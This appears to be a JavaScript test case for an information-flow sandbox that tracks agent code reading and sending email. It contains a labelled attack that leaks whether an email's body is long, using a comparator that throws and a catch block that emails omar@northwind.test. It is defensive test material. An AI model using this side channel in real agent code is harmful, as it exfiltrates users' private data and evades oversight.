// attack: a field comparator's copy throws a raw native error (a field of its missing third parameter) only when the email made the array long enough to compare; the catch itself sends
// normal: leaks (implicit flow, allowed in NORMAL mode: the push ran in a branch)
const m = await getEmail('m1');
const xs = [{ x: 1 }];
if (m.body.length > 3) xs.push({ x: 2 });
try {
  xs.sort((a, b, c) => c.x);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: 'long' });
}
